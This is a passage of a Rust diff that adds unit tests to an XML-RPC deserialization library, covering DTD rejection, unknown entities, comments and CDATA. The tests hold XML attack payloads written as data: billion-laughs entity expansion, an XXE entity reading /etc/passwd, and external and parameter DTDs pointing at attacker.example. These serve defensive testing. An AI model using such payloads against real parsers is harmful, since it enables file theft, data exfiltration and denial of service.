+                Box::new(|b, o| response_from_reader_with::<_, String>(b.as_bytes(), o).map(drop)),
+            ),
+            (
+                "response_params_from_str",
+                response,
+                Box::new(|b, _| response_params_from_str::<Vec<Value>>(b).map(drop)),
+            ),
+            (
+                "response_params_from_slice",
+                response,
+                Box::new(|b, _| response_params_from_slice::<Vec<Value>>(b.as_bytes()).map(drop)),
+            ),
+            (
+                "response_params_from_reader",
+                response,
+                Box::new(|b, _| {
+                    response_params_from_reader::<_, Vec<Value>>(b.as_bytes()).map(drop)
+                }),
+            ),
+            (
+                "value_from_str",
+                value,
+                Box::new(|b, _| value_from_str::<Value>(b).map(drop)),
+            ),
+            (
+                "value_from_str_with",
+                value,
+                Box::new(|b, o| value_from_str_with::<Value>(b, o).map(drop)),
+            ),
+            (
+                "value_from_slice",
+                value,
+                Box::new(|b, _| value_from_slice::<Value>(b.as_bytes()).map(drop)),
+            ),
+            (
+                "value_from_slice_with",
+                value,
+                Box::new(|b, o| value_from_slice_with::<Value>(b.as_bytes(), o).map(drop)),
+            ),
+            (
+                "value_from_reader",
+                value,
+                Box::new(|b, _| value_from_reader::<_, Value>(b.as_bytes()).map(drop)),
+            ),
+            (
+                "value_from_reader_with",
+                value,
+                Box::new(|b, o| value_from_reader_with::<_, Value>(b.as_bytes(), o).map(drop)),
+            ),
+            (
+                "Deserializer::from_str",
+                value,
+                Box::new(|b, _| String::deserialize(&mut Deserializer::from_str(b)).map(drop)),
+            ),
+            (
+                "Deserializer::from_slice",
+                value,
+                Box::new(|b, _| {
+                    String::deserialize(&mut Deserializer::from_slice(b.as_bytes())).map(drop)
+                }),
+            ),
+            (
+                "Deserializer::from_reader",
+                value,
+                Box::new(|b, _| {
+                    String::deserialize(&mut Deserializer::from_reader(b.as_bytes())).map(drop)
+                }),
+            ),
+        ];
+
+        let laughs = r#"<!DOCTYPE lolz [
+  <!ENTITY lol "lol">
+  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
+  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+]>"#;
+        let xxe = r#"<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>"#;
+        let external = r#"<!DOCTYPE methodCall SYSTEM "http://attacker.example/evil.dtd">"#;
+        let parameter =
+            r#"<!DOCTYPE foo [<!ENTITY % ext SYSTEM "http://attacker.example/ext.dtd"> %ext;]>"#;
+        let payloads = [
+            (laughs, "&lol3;", "lol3"),
+            (xxe, "&xxe;", "xxe"),
+            (external, "&evil;", "evil"),
+            (parameter, "&exfil;", "exfil"),
+        ];
+
+        let allow = DecoderOptions::new().allow_doctype(true);
+        for (name, body, parse) in &parsers {
+            for &(doctype, reference, entity) in &payloads {
+                let input = body(doctype, reference);
+                for options in &[DecoderOptions::new(), DecoderOptions::strict()] {
+                    match parse(&input, options) {
+                        Err(Error::DecodingError(error::DecodingError::InvalidDocument(
+                            problem,
+                        ))) => {
+                            assert_eq!(
+                                problem, "document type declarations are not allowed",
+                                "{}",
+                                name
+                            )
+                        }
+                        other => {
+                            panic!("{}: expected the DTD to be rejected, got {:?}", name, other)
+                        }
+                    }
+                }
+
+                // Unknown entities are rejected even without a DTD.
+                match parse(&body("", reference), &DecoderOptions::new()) {
+                    Err(Error::DecodingError(error::DecodingError::UnknownEntity(e))) => {
+                        assert_eq!(e, entity, "{}", name)
+                    }
+                    other => panic!("{}: expected an unknown entity, got {:?}", name, other),
+                }
+            }
+
+            // The opt-out only affects the parsers which take options.
+            if !name.ends_with("_with") {
+                continue;
+            }
+            for &(doctype, reference, entity) in &payloads {
+                match parse(&body(doctype, reference), &allow) {
+                    Err(Error::DecodingError(error::DecodingError::UnknownEntity(e))) => {
+                        assert_eq!(e, entity, "{}", name)
+                    }
+                    other => panic!("{}: expected an unknown entity, got {:?}", name, other),
+                }
+                parse(&body(doctype, "&lt;&#65;&#x42;&gt;"), &allow).unwrap();
+            }
+        }
+    }
+
+    #[test]
+    fn test_comments_and_cdata() {
+        let request = r#"<?xml version="1.0"?>
+<!-- a hand-written fixture -->
+<?xml-stylesheet type="text/xsl" href="call.xsl"?>
+<methodCall>
+  <!-- the method -->
+  <methodName>echo<!-- split -->.all</methodName>
+  <params><?pi?>
+    <param><!-- first --><value><string><![CDATA[<b>&amp;</b>]]></string></value></param>
+    <param>
+      <value><string>a &lt; <![CDATA[<b>]]> &amp; <!-- c --><![CDATA[c]]></string></value>
+    </param>
+    <param><value><![CDATA[untyped]]></value></param>
+    <param>
+      <value>
+        <struct>
+          <!-- members -->
+          <member><name><![CDATA[<key>]]></name><!-- value --><value><int>1</int></value></member>
+          <?pi?>
+        </struct>
+      </value>
+    </param>
+    <param><value><array><data><!-- none --></data></array></value></param>
+  </params>
+</methodCall>
+<!-- trailing -->"#;
+        let expected = vec![
+            Value::String("<b>&amp;</b>".to_string()),
+            Value::String("a < <b> & c".to_string()),
+            Value::String("untyped".to_string()),
+            Value::Struct(
+                vec![("<key>".to_string(), Value::Int(1))]
+                    .into_iter()
+                    .collect(),
+            ),
+            Value::Array(vec![]),
+        ];
+
+        for options in &[DecoderOptions::new(), DecoderOptions::strict()] {
+            let (name, params) = request_from_str_with(request, options).unwrap();
+            assert_eq!(name, "echo.all");
+            assert_eq!(params, expected);
+        }
+        let (_, params) = request_from_reader(request.as_bytes()).unwrap();
+        assert_eq!(params, expected);
+
+        let response = "<!-- before --><methodResponse><!-- x --><params><param><value><string><![CDATA[]]>ok</string></value></param></params></methodResponse>";
+        assert_eq!(response_from_str::<String>(response).unwrap(), "ok");
+        assert_eq!(
+            response_from_reader::<_, String>(response.as_bytes()).unwrap(),
+            "ok"
+        );
+
+        // CDATA without anything to escape can still be borrowed.
+        assert_eq!(
+            value_from_str::<&str>("<value><string><![CDATA[plain]]></string></value>").unwrap(),
+            "plain"
+        );
+
+        // CDATA is decoded in the declared encoding.
+        let latin1 = b"<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><value><![CDATA[caf\xe9 <&>]]></value>";
+        assert_eq!(value_from_slice::<String>(latin1).unwrap(), "caf\u{e9} <&>");
+
+        // A comment doesn't make the XML declaration the start of the
+        // document.
+        let err = value_from_str_with::<i32>(
+            "<!-- x --><?xml version=\"1.0\"?><value><int>1</int></value>",
+            &DecoderOptions::strict(),
+        )
+        .unwrap_err();
+        assert_eq!(
+            err.to_string(),
+            "decoding error: invalid XML-RPC: the XML declaration must be at the start of the document"
+        );
+    }
 }